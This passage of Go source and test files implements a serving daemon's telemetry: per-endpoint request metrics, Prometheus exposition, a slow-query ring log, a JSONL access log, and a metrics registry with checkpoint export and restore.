// maxGenerations bounds the per-generation request-counter label set.
// Generations are content hashes and a long-lived daemon hot-reloads
// indefinitely, so the label space must not grow with uptime: when a
// new generation would exceed the cap, the oldest is evicted. Scrapes
// always see the current generation plus the most recent history —
// enough to audit which queries ran against which snapshot across a
// swap.
const maxGenerations = 8

// Options shapes a Plane.
type Options struct {
	// Prefix is the metric-name prefix ("malnetd" when empty).
	Prefix string
	// SlowThreshold is the slow-query log's admission threshold: a
	// request whose total duration reaches it is recorded. Zero
	// records every request (useful in smoke tests); negative
	// disables the slow log.
	SlowThreshold time.Duration
	// SlowCap is the slow-query ring capacity (64 when zero).
	SlowCap int
	// AccessLog, when set, receives one JSON line per finished
	// request. The Plane serializes writes; the caller owns the
	// writer's lifetime.
	AccessLog io.Writer
}

// Plane is the serving-plane telemetry hub: one per daemon process,
// shared by every request goroutine. All methods are safe for
// concurrent use.
type Plane struct {
	prefix string
	epoch  int64 // process start, unix nanos: the request-ID namespace
	reqSeq atomic.Uint64

	mu        sync.Mutex
	endpoints map[string]*endpointRED
	gens      []genCount
	swaps     int64

	slow slowLog

	logMu     sync.Mutex
	accessLog io.Writer
}

// endpointRED is one endpoint's RED row: request counts by status
// class, the latency histogram, cache outcomes, and scan/encode
// volume counters.
type endpointRED struct {
	byClass map[string]int64 // "2xx" | "4xx" | "5xx"
	latency *obs.Histogram   // ns, LatencyBounds
	cache   map[string]int64 // "hit" | "miss" | "coalesced"
	rows    int64
	bytes   int64
}

// genCount is one store generation's request total, kept in
// first-seen order so eviction drops the oldest. run is the lake run
// that produced the generation ("" outside lake mode — the label is
// then omitted from the exposition), so one counter row answers both
// "which snapshot" and "whose study".
type genCount struct {
	gen string
	run string
	n   int64
}

// New returns an armed Plane.
func New(o Options) *Plane {
	if o.Prefix == "" {
		o.Prefix = "malnetd"
	}
	if o.SlowCap <= 0 {
		o.SlowCap = 64
	}
	p := &Plane{
		prefix:    o.Prefix,
		epoch:     time.Now().UnixNano(),
		endpoints: map[string]*endpointRED{},
		accessLog: o.AccessLog,
	}
	p.slow.init(o.SlowThreshold, o.SlowCap)
	return p
}

// StoreSwapped records one hot swap of the serving store. The swap
// count is exposed as a counter so a reload burst is visible next to
// the RED deltas it causes.
func (p *Plane) StoreSwapped() {
	if p == nil {
		return
	}
	p.mu.Lock()
	p.swaps++
	p.mu.Unlock()
}

// Stage is one timed step of a request span: name, start offset from
// the span's start, and duration, all in nanoseconds.
type Stage struct {
	Name    string `json:"name"`
	StartNs int64  `json:"start_ns"`
	DurNs   int64  `json:"dur_ns"`
}

// Span is one request's trace: identity (request ID, endpoint label,
// raw path, store generation), the stage list, and the outcome fields
// the middleware fills in as the request progresses. A span is owned
// by its request goroutine until Finish; the Plane only sees it under
// its own lock. A nil Span absorbs every call.
type Span struct {
	p *Plane

	id         string
	endpoint   string
	path       string
	generation string
	run        string
	start      time.Time

	stages []Stage
	cache  string
	rows   int64
	bytes  int64
	status int
}

// Start opens a span for one request against endpoint (the RED label,
// e.g. "samples") with the raw request path and the resolved store
// generation. The request ID is unique within the process and carries
// the process epoch, so IDs from a restarted daemon never collide in
// a shared log.
func (p *Plane) Start(endpoint, path, generation string) *Span {
	if p == nil {
		return nil
	}
	return &Span{
		p:          p,
		id:         fmt.Sprintf("%x-%06x", uint64(p.epoch)&0xffffffff, p.reqSeq.Add(1)),
		endpoint:   endpoint,
		path:       path,
		generation: generation,
		start:      time.Now(),
		stages:     make([]Stage, 0, 4),
	}
}

// ID returns the span's request ID ("" for a nil span) — the value of
// the X-Request-Id response header and the join key between access
// log, slow-query log, and any client-side record of the request.
func (sp *Span) ID() string {
	if sp == nil {
		return ""
	}
	return sp.id
}

// Stage starts timing one named step and returns its stop function.
// Stages are recorded in call order with offsets from the span start,
// so the finished span reads as a one-level trace tree: request →
// cache_lookup → flight_wait/scan → encode.
func (sp *Span) Stage(name string) func() {
	if sp == nil {
		return func() {}
	}
	begin := time.Now()
	return func() {
		end := time.Now()
		sp.stages = append(sp.stages, Stage{
			Name:    name,
			StartNs: begin.Sub(sp.start).Nanoseconds(),
			DurNs:   end.Sub(begin).Nanoseconds(),
		})
	}
}

// SetCache records the cache outcome: "hit", "miss", or "coalesced".
func (sp *Span) SetCache(outcome string) {
	if sp != nil {
		sp.cache = outcome
	}
}

// SetRun records the lake run whose generation answered the request;
// it labels the generation counter and the access-log line. Requests
// that resolve a historical generation (run=/asof= selectors) call
// this after resolution, alongside SetGeneration.
func (sp *Span) SetRun(run string) {
	if sp != nil {
		sp.run = run
	}
}

// SetGeneration re-points the span at the generation that actually
// answered the request, when selector resolution lands on a different
// store than the one the span was opened against.
func (sp *Span) SetGeneration(gen string) {
	if sp != nil {
		sp.generation = gen
	}
}

// AddRows records rows scanned while computing the response (index
// positions touched, columnar rows selected).
func (sp *Span) AddRows(n int) {
	if sp != nil {
		sp.rows += int64(n)
	}
}

// Finish closes the span with the response's HTTP status and body
// size, folds it into the RED metrics, and hands it to the access and
// slow-query logs. Must be called exactly once, after the last Stage
// stop.
func (sp *Span) Finish(status, bytes int) {
	if sp == nil {
		return
	}
	sp.status, sp.bytes = status, int64(bytes)
	end := time.Now()
	durNs := end.Sub(sp.start).Nanoseconds()
	p := sp.p

	p.mu.Lock()
	ep := p.endpoints[sp.endpoint]
	if ep == nil {
		ep = &endpointRED{
			byClass: map[string]int64{},
			latency: obs.NewHistogram(LatencyBounds),
			cache:   map[string]int64{},
		}
		p.endpoints[sp.endpoint] = ep
	}
	ep.byClass[statusClass(sp.status)]++
	ep.latency.Observe(durNs)
	if sp.cache != "" {
		ep.cache[sp.cache]++
	}
	ep.rows += sp.rows
	ep.bytes += sp.bytes
	p.countGeneration(sp.generation, sp.run)
	p.mu.Unlock()

	p.slow.record(sp, durNs)
	p.logAccess(sp, durNs)
}

// countGeneration bumps the per-(generation, run) request counter,
// evicting the oldest label pair past maxGenerations. Caller holds
// p.mu.
func (p *Plane) countGeneration(gen, run string) {
	if gen == "" {
		return
	}
	for i := range p.gens {
		if p.gens[i].gen == gen && p.gens[i].run == run {
			p.gens[i].n++
			return
		}
	}
	if len(p.gens) >= maxGenerations {
		p.gens = p.gens[1:]
	}
	p.gens = append(p.gens, genCount{gen: gen, run: run, n: 1})
}

// statusClass buckets an HTTP status for the error-class counters.
func statusClass(status int) string {
	switch {
	case status >= 500:
		return "5xx"
	case status >= 400:
		return "4xx"
	default:
		return "2xx"
	}
}

// accessRecord is one JSONL access-log line.
type accessRecord struct {
	TS         string  `json:"ts"`
	ID         string  `json:"id"`
	Endpoint   string  `json:"endpoint"`
	Path       string  `json:"path"`
	Generation string  `json:"generation,omitempty"`
	Run        string  `json:"run,omitempty"`
	Status     int     `json:"status"`
	Cache      string  `json:"cache,omitempty"`
	Rows       int64   `json:"rows"`
	Bytes      int64   `json:"bytes"`
	DurNs      int64   `json:"dur_ns"`
	Stages     []Stage `json:"stages,omitempty"`
}

// logAccess emits the span as one access-log line, if a log is armed.
func (p *Plane) logAccess(sp *Span, durNs int64) {
	if p.accessLog == nil {
		return
	}
	line, err := json.Marshal(accessRecord{
		TS:         sp.start.UTC().Format(time.RFC3339Nano),
		ID:         sp.id,
		Endpoint:   sp.endpoint,
		Path:       sp.path,
		Generation: sp.generation,
		Run:        sp.run,
		Status:     sp.status,
		Cache:      sp.cache,
		Rows:       sp.rows,
		Bytes:      sp.bytes,
		DurNs:      durNs,
		Stages:     sp.stages,
	})
	if err != nil {
		return
	}
	line = append(line, '\n')
	p.logMu.Lock()
	p.accessLog.Write(line)
	p.logMu.Unlock()
}

// redSnapshot is one endpoint's copied counters, for exposition
// outside the plane lock.
type redSnapshot struct {
	endpoint string
	byClass  map[string]int64
	bounds   []int64
	buckets  []int64
	count    int64
	sum      int64
	cache    map[string]int64
	rows     int64
	bytes    int64
}

// snapshot copies the full metric state under the lock.
func (p *Plane) snapshot() (eps []redSnapshot, gens []genCount, swaps int64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	names := make([]string, 0, len(p.endpoints))
	for name := range p.endpoints {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		ep := p.endpoints[name]
		eps = append(eps, redSnapshot{
			endpoint: name,
			byClass:  copyMap(ep.byClass),
			bounds:   ep.latency.Bounds(),
			buckets:  append([]int64(nil), ep.latency.BucketCounts()...),
			count:    ep.latency.Count(),
			sum:      ep.latency.Sum(),
			cache:    copyMap(ep.cache),
			rows:     ep.rows,
			bytes:    ep.bytes,
		})
	}
	gens = append(gens, p.gens...)
	sort.Slice(gens, func(i, j int) bool {
		if gens[i].gen != gens[j].gen {
			return gens[i].gen < gens[j].gen
		}
		return gens[i].run < gens[j].run
	})
	return eps, gens, p.swaps
}

func copyMap(m map[string]int64) map[string]int64 {
	out := make(map[string]int64, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}
