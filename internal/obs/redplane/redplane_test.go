package redplane

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
)

// finish runs one synthetic request through the plane.
func finish(p *Plane, endpoint, gen string, status int, cache string, rows, bytes int) {
	sp := p.Start(endpoint, "/v1/"+endpoint, gen)
	stop := sp.Stage("scan")
	stop()
	if cache != "" {
		sp.SetCache(cache)
	}
	sp.AddRows(rows)
	sp.Finish(status, bytes)
}

func TestNilPlaneAbsorbsEverything(t *testing.T) {
	var p *Plane
	sp := p.Start("samples", "/v1/samples", "g")
	if sp != nil {
		t.Fatal("nil plane returned a non-nil span")
	}
	sp.Stage("scan")()
	sp.SetCache("hit")
	sp.AddRows(3)
	sp.Finish(200, 10)
	if sp.ID() != "" {
		t.Fatal("nil span has an ID")
	}
	p.StoreSwapped()
	if err := p.WritePrometheus(&strings.Builder{}); err != nil {
		t.Fatal(err)
	}
	if p.SlowQueries() != nil {
		t.Fatal("nil plane has slow queries")
	}
}

// expositionLine matches the two legal non-comment shapes of the text
// exposition format as this plane emits them.
var expositionLine = regexp.MustCompile(
	`^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z_][a-zA-Z0-9_]*="[^"]*"(,[a-zA-Z_][a-zA-Z0-9_]*="[^"]*")*\})? [0-9.+-]+(e[+-]?[0-9]+)?$`)

func TestPrometheusExposition(t *testing.T) {
	p := New(Options{SlowThreshold: -1})
	finish(p, "samples", "genA", 200, "miss", 120, 4096)
	finish(p, "samples", "genA", 200, "hit", 0, 4096)
	finish(p, "samples", "genA", 400, "", 0, 30)
	finish(p, "query", "genA", 500, "miss", 7, 64)
	p.StoreSwapped()

	var b strings.Builder
	if err := p.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	body := b.String()

	sc := bufio.NewScanner(strings.NewReader(body))
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "# HELP ") || strings.HasPrefix(line, "# TYPE ") {
			continue
		}
		if !expositionLine.MatchString(line) {
			t.Fatalf("malformed exposition line: %q", line)
		}
	}

	for _, want := range []string{
		`malnetd_requests_total{endpoint="samples",code="2xx"} 2`,
		`malnetd_requests_total{endpoint="samples",code="4xx"} 1`,
		`malnetd_requests_total{endpoint="query",code="5xx"} 1`,
		`malnetd_cache_outcomes_total{endpoint="samples",outcome="hit"} 1`,
		`malnetd_cache_outcomes_total{endpoint="samples",outcome="miss"} 1`,
		`malnetd_rows_scanned_total{endpoint="samples"} 120`,
		`malnetd_response_bytes_total{endpoint="samples"} 8222`,
		`malnetd_request_duration_seconds_count{endpoint="samples"} 3`,
		`malnetd_generation_requests_total{generation="genA"} 4`,
		`malnetd_store_swaps_total 1`,
	} {
		if !strings.Contains(body, want+"\n") {
			t.Fatalf("exposition missing %q:\n%s", want, body)
		}
	}

	// Histogram buckets are cumulative and end at count.
	if !strings.Contains(body, `malnetd_request_duration_seconds_bucket{endpoint="samples",le="+Inf"} 3`) {
		t.Fatalf("+Inf bucket != count:\n%s", body)
	}
	// Two identical snapshots render byte-identically.
	var b2 strings.Builder
	p.WritePrometheus(&b2)
	if b2.String() != body {
		t.Fatal("exposition output is not stable across identical snapshots")
	}
}

func TestGenerationLabelEviction(t *testing.T) {
	p := New(Options{SlowThreshold: -1})
	for i := 0; i < maxGenerations+3; i++ {
		finish(p, "headline", fmt.Sprintf("gen%02d", i), 200, "hit", 0, 10)
	}
	_, gens, _ := p.snapshot()
	if len(gens) != maxGenerations {
		t.Fatalf("retained %d generations, want %d", len(gens), maxGenerations)
	}
	for _, g := range gens {
		if g.gen == "gen00" || g.gen == "gen01" || g.gen == "gen02" {
			t.Fatalf("oldest generation %s survived eviction", g.gen)
		}
	}
}

func TestSlowlogThresholdAndRing(t *testing.T) {
	p := New(Options{SlowThreshold: 5 * time.Millisecond, SlowCap: 2})
	// Under threshold: not recorded.
	finish(p, "headline", "g", 200, "hit", 0, 10)
	if got := p.SlowQueries(); len(got) != 0 {
		t.Fatalf("fast request admitted to the slow log: %+v", got)
	}
	// Over threshold: recorded, ring capped at 2, oldest evicted.
	for i := 0; i < 3; i++ {
		sp := p.Start("query", fmt.Sprintf("/v1/query?q=%d", i), "g")
		stop := sp.Stage("scan")
		time.Sleep(6 * time.Millisecond)
		stop()
		sp.Finish(200, 100)
	}
	got := p.SlowQueries()
	if len(got) != 2 {
		t.Fatalf("slow ring holds %d entries, want 2", len(got))
	}
	for _, e := range got {
		if e.DurNs < (5 * time.Millisecond).Nanoseconds() {
			t.Fatalf("entry under threshold: %+v", e)
		}
		if e.Path == "/v1/query?q=0" {
			t.Fatal("ring did not evict the oldest entry")
		}
		if len(e.Stages) != 1 || e.Stages[0].Name != "scan" {
			t.Fatalf("entry lost its stages: %+v", e)
		}
	}
	if got[0].DurNs < got[1].DurNs {
		t.Fatal("slow queries not sorted slowest-first")
	}
}

func TestAccessLogJSONL(t *testing.T) {
	var buf strings.Builder
	mu := &syncWriter{w: &buf}
	p := New(Options{SlowThreshold: -1, AccessLog: mu})

	var wg sync.WaitGroup
	const n = 16
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			sp := p.Start("samples", fmt.Sprintf("/v1/samples?cursor=%d", i), "g")
			stop := sp.Stage("cache_lookup")
			stop()
			sp.SetCache("miss")
			sp.AddRows(i)
			sp.Finish(200, 100+i)
		}(i)
	}
	wg.Wait()

	lines := strings.Split(strings.TrimRight(buf.String(), "\n"), "\n")
	if len(lines) != n {
		t.Fatalf("access log has %d lines, want %d", len(lines), n)
	}
	ids := map[string]bool{}
	for _, line := range lines {
		var rec struct {
			ID     string `json:"id"`
			Status int    `json:"status"`
			Stages []Stage
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("access line is not JSON: %v\n%s", err, line)
		}
		if rec.ID == "" || rec.Status != 200 || len(rec.Stages) != 1 {
			t.Fatalf("access line malformed: %s", line)
		}
		if ids[rec.ID] {
			t.Fatalf("duplicate request ID %s", rec.ID)
		}
		ids[rec.ID] = true
	}
}

// syncWriter makes a strings.Builder safe for the plane's already
// serialized writes plus the test's final read.
type syncWriter struct {
	mu sync.Mutex
	w  *strings.Builder
}

func (s *syncWriter) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.w.Write(p)
}

func TestMountServesMetricsAndSlowlog(t *testing.T) {
	p := New(Options{SlowThreshold: 0})
	finish(p, "headline", "g", 200, "miss", 1, 10)

	mux := http.NewServeMux()
	p.Mount(mux)
	ts := httptest.NewServer(mux)
	defer ts.Close()

	resp, err := ts.Client().Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") {
		t.Fatalf("/metrics: status %d, content-type %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}

	resp2, err := ts.Client().Get(ts.URL + "/debug/slowlog")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	var body struct {
		ThresholdNs int64       `json:"threshold_ns"`
		Capacity    int         `json:"capacity"`
		Entries     []SlowEntry `json:"entries"`
	}
	if err := json.NewDecoder(resp2.Body).Decode(&body); err != nil {
		t.Fatalf("/debug/slowlog not JSON: %v", err)
	}
	if len(body.Entries) != 1 || body.Capacity != 64 {
		t.Fatalf("slowlog body unexpected: %+v", body)
	}
}
