package redplane

import (
	"encoding/json"
	"io"
	"sort"
	"sync"
	"time"
)

// SlowEntry is one slow request's full span tree as /debug/slowlog
// serves it: the request's identity and outcome plus every recorded
// stage with offsets from the request start. Entries are immutable
// once recorded — the ring stores value copies, so a concurrent herd
// can never splice one request's stages into another's entry.
type SlowEntry struct {
	ID         string  `json:"id"`
	Endpoint   string  `json:"endpoint"`
	Path       string  `json:"path"`
	Generation string  `json:"generation,omitempty"`
	Start      string  `json:"start"`
	DurNs      int64   `json:"dur_ns"`
	Status     int     `json:"status"`
	Cache      string  `json:"cache,omitempty"`
	Rows       int64   `json:"rows"`
	Bytes      int64   `json:"bytes"`
	Stages     []Stage `json:"stages"`
}

// slowLog is a fixed-capacity ring of the most recent requests whose
// total duration reached the threshold. A ring (rather than a top-N
// heap) keeps the log fresh: the interesting slow queries are the
// ones happening now, and with a meaningful threshold everything
// admitted is already "worst". Snapshot orders slowest-first.
type slowLog struct {
	mu          sync.Mutex
	thresholdNs int64 // -1 disables
	entries     []SlowEntry
	next        int // ring cursor
	full        bool
}

func (l *slowLog) init(threshold time.Duration, cap int) {
	if threshold < 0 {
		l.thresholdNs = -1
		return
	}
	l.thresholdNs = threshold.Nanoseconds()
	l.entries = make([]SlowEntry, 0, cap)
}

// record admits a finished span when it crossed the threshold. The
// span's stage slice is copied: the entry must not alias memory a
// pooled or reused span could touch later.
func (l *slowLog) record(sp *Span, durNs int64) {
	if l.thresholdNs < 0 || durNs < l.thresholdNs {
		return
	}
	e := SlowEntry{
		ID:         sp.id,
		Endpoint:   sp.endpoint,
		Path:       sp.path,
		Generation: sp.generation,
		Start:      sp.start.UTC().Format(time.RFC3339Nano),
		DurNs:      durNs,
		Status:     sp.status,
		Cache:      sp.cache,
		Rows:       sp.rows,
		Bytes:      sp.bytes,
		Stages:     append([]Stage(nil), sp.stages...),
	}
	l.mu.Lock()
	if len(l.entries) < cap(l.entries) {
		l.entries = append(l.entries, e)
	} else if cap(l.entries) > 0 {
		l.entries[l.next] = e
		l.next = (l.next + 1) % cap(l.entries)
		l.full = true
	}
	l.mu.Unlock()
}

// Snapshot copies the ring's entries, slowest first.
func (l *slowLog) Snapshot() []SlowEntry {
	l.mu.Lock()
	out := append([]SlowEntry(nil), l.entries...)
	l.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].DurNs != out[j].DurNs {
			return out[i].DurNs > out[j].DurNs
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// SlowQueries returns the plane's slow-query entries, slowest first
// (nil when the plane or the log is disabled).
func (p *Plane) SlowQueries() []SlowEntry {
	if p == nil {
		return nil
	}
	return p.slow.Snapshot()
}

// writeJSON renders the /debug/slowlog response body.
func (l *slowLog) writeJSON(w io.Writer) error {
	l.mu.Lock()
	threshold, capacity := l.thresholdNs, cap(l.entries)
	l.mu.Unlock()
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(struct {
		ThresholdNs int64       `json:"threshold_ns"`
		Capacity    int         `json:"capacity"`
		Entries     []SlowEntry `json:"entries"`
	}{threshold, capacity, l.Snapshot()})
}
