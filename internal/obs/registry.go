package obs

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

// Counter is a monotonically increasing int64 metric. The zero value
// is ready to use; a nil Counter absorbs writes.
type Counter struct{ v int64 }

// Add increases the counter by n.
func (c *Counter) Add(n int64) {
	if c != nil {
		c.v += n
	}
}

// Inc increases the counter by one.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count (0 for a nil Counter).
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v
}

// Gauge is a last-write-wins int64 metric. It remembers whether it
// was ever set so merges don't clobber values with zeroes.
type Gauge struct {
	v   int64
	set bool
}

// Set records the gauge value.
func (g *Gauge) Set(n int64) {
	if g != nil {
		g.v, g.set = n, true
	}
}

// Value returns the current value (0 if never set or nil).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v
}

// Histogram is a fixed-bucket int64 distribution. bounds are
// inclusive upper bounds of each bucket; observations above the last
// bound land in an implicit +Inf bucket.
type Histogram struct {
	bounds []int64
	counts []int64 // len(bounds)+1; last is +Inf
	sum    int64
	n      int64
}

// NewHistogram returns an empty histogram with the given sorted
// inclusive upper bucket bounds. Standalone constructor for callers
// (the serving red plane) that manage histograms outside a Registry.
func NewHistogram(bounds []int64) *Histogram {
	return &Histogram{bounds: bounds, counts: make([]int64, len(bounds)+1)}
}

// Observe records one observation.
func (h *Histogram) Observe(v int64) {
	if h == nil {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.counts[i]++
	h.sum += v
	h.n++
}

// Bounds returns the histogram's inclusive upper bucket bounds. The
// returned slice is the histogram's own — callers must not mutate it.
func (h *Histogram) Bounds() []int64 {
	if h == nil {
		return nil
	}
	return h.bounds
}

// BucketCounts returns the per-bucket observation counts
// (len(Bounds())+1; the last entry is the +Inf bucket). The returned
// slice is the histogram's own — callers must not mutate it.
func (h *Histogram) BucketCounts() []int64 {
	if h == nil {
		return nil
	}
	return h.counts
}

// Count returns the number of observations.
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.n
}

// Sum returns the sum of all observations.
func (h *Histogram) Sum() int64 {
	if h == nil {
		return 0
	}
	return h.sum
}

// Registry holds named metrics. Metrics are created on first access
// and live for the registry's lifetime. Registries follow the
// package's single-owner rule: one goroutine at a time.
type Registry struct {
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: map[string]*Counter{},
		gauges:   map[string]*Gauge{},
		hists:    map[string]*Histogram{},
	}
}

// Counter returns the named counter, creating it at zero if needed.
// A nil Registry returns a nil (no-op) Counter.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	c := r.counters[name]
	if c == nil {
		c = &Counter{}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the named gauge, creating it if needed.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	g := r.gauges[name]
	if g == nil {
		g = &Gauge{}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns the named histogram, creating it with bounds if
// needed. bounds must be sorted ascending and must match across all
// registries that will be merged.
func (r *Registry) Histogram(name string, bounds []int64) *Histogram {
	if r == nil {
		return nil
	}
	h := r.hists[name]
	if h == nil {
		h = &Histogram{bounds: bounds, counts: make([]int64, len(bounds)+1)}
		r.hists[name] = h
	}
	return h
}

// ReadCounter returns the named counter's value without creating it,
// so report rendering never perturbs the snapshot.
func (r *Registry) ReadCounter(name string) int64 {
	if r == nil {
		return 0
	}
	return r.counters[name].Value()
}

// ReadGauge returns the named gauge's value without creating it.
func (r *Registry) ReadGauge(name string) int64 {
	if r == nil {
		return 0
	}
	return r.gauges[name].Value()
}

// ReadHistogram returns the named histogram's count and sum without
// creating it.
func (r *Registry) ReadHistogram(name string) (count, sum int64) {
	if r == nil {
		return 0, 0
	}
	h := r.hists[name]
	return h.Count(), h.Sum()
}

// Merge folds other into r: counters and histograms add, gauges take
// other's value when other ever set it. Merging is commutative over
// counters and histograms, which is what makes shard-merge order
// irrelevant to the totals.
func (r *Registry) Merge(other *Registry) { r.MergePrefixed("", other) }

// MergePrefixed merges other into r with prefix prepended to every
// metric name (e.g. "world." to keep the shared world network's
// traffic distinct from shard traffic).
func (r *Registry) MergePrefixed(prefix string, other *Registry) {
	if r == nil || other == nil {
		return
	}
	for name, c := range other.counters {
		r.Counter(prefix + name).Add(c.v)
	}
	for name, g := range other.gauges {
		if g.set {
			r.Gauge(prefix + name).Set(g.v)
		}
	}
	for name, h := range other.hists {
		dst := r.Histogram(prefix+name, h.bounds)
		if len(dst.counts) != len(h.counts) {
			panic("obs: histogram bucket mismatch merging " + prefix + name)
		}
		for i, n := range h.counts {
			dst.counts[i] += n
		}
		dst.sum += h.sum
		dst.n += h.n
	}
}

// WriteSnapshot writes the registry as stable-ordered text, one
// metric per line. Equal registries produce byte-identical output.
func (r *Registry) WriteSnapshot(w io.Writer) error {
	if r == nil {
		return nil
	}
	var lines []string
	for name, c := range r.counters {
		lines = append(lines, fmt.Sprintf("counter %s %d", name, c.v))
	}
	for name, g := range r.gauges {
		if g.set {
			lines = append(lines, fmt.Sprintf("gauge %s %d", name, g.v))
		}
	}
	for name, h := range r.hists {
		var b strings.Builder
		fmt.Fprintf(&b, "histogram %s count=%d sum=%d", name, h.n, h.sum)
		for i, bound := range h.bounds {
			fmt.Fprintf(&b, " le%d=%d", bound, h.counts[i])
		}
		fmt.Fprintf(&b, " inf=%d", h.counts[len(h.bounds)])
		lines = append(lines, b.String())
	}
	sort.Strings(lines)
	for _, ln := range lines {
		if _, err := io.WriteString(w, ln+"\n"); err != nil {
			return err
		}
	}
	return nil
}

// Snapshot returns WriteSnapshot's output as a string.
func (r *Registry) Snapshot() string {
	var b strings.Builder
	r.WriteSnapshot(&b)
	return b.String()
}
