package obs

// The checkpoint plane: a Registry can be exported to a plain-data
// dump (stored in a study snapshot) and later restored from one. The
// restore is in-place — existing metric objects are mutated, never
// replaced — because hot paths across the repo cache *Counter
// pointers (simnet's netMetrics, the probing loop's counters); a
// restore that swapped the maps out would silently disconnect them.

// HistogramDump is a Histogram's serializable state.
type HistogramDump struct {
	Bounds []int64 `json:"bounds,omitempty"`
	Counts []int64 `json:"counts"`
	Sum    int64   `json:"sum"`
	N      int64   `json:"n"`
}

// MetricsDump is a Registry's serializable state. Gauges carry only
// set values — an unset gauge is indistinguishable from an absent
// one, which is exactly how WriteSnapshot treats it too.
type MetricsDump struct {
	Counters map[string]int64         `json:"counters,omitempty"`
	Gauges   map[string]int64         `json:"gauges,omitempty"`
	Hists    map[string]HistogramDump `json:"hists,omitempty"`
}

// Export captures the registry's current state as plain data.
func (r *Registry) Export() MetricsDump {
	d := MetricsDump{
		Counters: map[string]int64{},
		Gauges:   map[string]int64{},
		Hists:    map[string]HistogramDump{},
	}
	if r == nil {
		return d
	}
	for name, c := range r.counters {
		d.Counters[name] = c.v
	}
	for name, g := range r.gauges {
		if g.set {
			d.Gauges[name] = g.v
		}
	}
	for name, h := range r.hists {
		d.Hists[name] = HistogramDump{
			Bounds: append([]int64(nil), h.bounds...),
			Counts: append([]int64(nil), h.counts...),
			Sum:    h.sum,
			N:      h.n,
		}
	}
	return d
}

// Restore overwrites the registry's state from a dump: metrics in the
// dump are set to their dumped values (mutated in place when they
// already exist, created when missing), metrics present in the
// registry but absent from the dump are deleted. After Restore,
// Snapshot() is byte-identical to the snapshot the dump was exported
// from. A cached pointer to a deleted metric is orphaned — safe only
// because the study restores a dump taken strictly later in the same
// deterministic schedule, so the live registry's metric set is always
// a subset of the dump's.
func (r *Registry) Restore(d MetricsDump) {
	if r == nil {
		return
	}
	for name := range r.counters {
		if _, ok := d.Counters[name]; !ok {
			delete(r.counters, name)
		}
	}
	for name, v := range d.Counters {
		r.Counter(name).v = v
	}
	for name := range r.gauges {
		if _, ok := d.Gauges[name]; !ok {
			delete(r.gauges, name)
		}
	}
	for name, v := range d.Gauges {
		r.Gauge(name).Set(v)
	}
	for name := range r.hists {
		if _, ok := d.Hists[name]; !ok {
			delete(r.hists, name)
		}
	}
	for name, hd := range d.Hists {
		h := r.Histogram(name, hd.Bounds)
		if len(h.counts) != len(hd.Counts) {
			panic("obs: histogram bucket mismatch restoring " + name)
		}
		copy(h.counts, hd.Counts)
		h.sum, h.n = hd.Sum, hd.N
	}
}
