package obs

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

// TestRegistryExportRestore asserts the checkpoint contract: a
// restored registry snapshots byte-identically to the exported one,
// previously cached metric pointers stay live, and state the dump
// does not carry is zeroed rather than left behind.
func TestRegistryExportRestore(t *testing.T) {
	r := NewRegistry()
	cached := r.Counter("hot.counter") // simulates simnet's cached pointers
	cached.Add(7)
	r.Gauge("g").Set(-3)
	r.Histogram("h", []int64{10, 100}).Observe(42)
	dump := r.Export()
	want := r.Snapshot()

	// Drift past the export: new metrics, changed values.
	cached.Add(100)
	r.Counter("later.counter").Inc()
	r.Gauge("later.gauge").Set(9)
	r.Histogram("h", []int64{10, 100}).Observe(5)
	r.Histogram("later.hist", []int64{1}).Observe(1)

	r.Restore(dump)
	if got := r.Snapshot(); got != want {
		t.Fatalf("restored snapshot diverged:\ngot:\n%swant:\n%s", got, want)
	}
	if cached.Value() != 7 {
		t.Fatalf("cached counter pointer disconnected: %d", cached.Value())
	}
	cached.Inc()
	if r.ReadCounter("hot.counter") != 8 {
		t.Fatal("cached pointer no longer feeds the registry after restore")
	}
}

func TestRegistryExportRestoreRoundTripEmpty(t *testing.T) {
	r := NewRegistry()
	r.Counter("c").Inc()
	r.Restore(NewRegistry().Export())
	if got := r.Snapshot(); got != "" {
		t.Fatalf("restore from empty dump: %q", got)
	}
}

// TestJournalCursorRewind replays the study's resume dance: journal
// some lines, checkpoint the cursor, journal more (the killed run's
// tail), rewind, re-emit — the file must be byte-identical to one
// written straight through.
func TestJournalCursorRewind(t *testing.T) {
	emit := func(j *Journal, names ...string) {
		for _, n := range names {
			s := NewSpan(n, time.Unix(0, 0).UTC())
			s.Finish(time.Unix(1, 0).UTC())
			j.EmitSpan(0, s)
		}
	}

	straight := filepath.Join(t.TempDir(), "straight.jsonl")
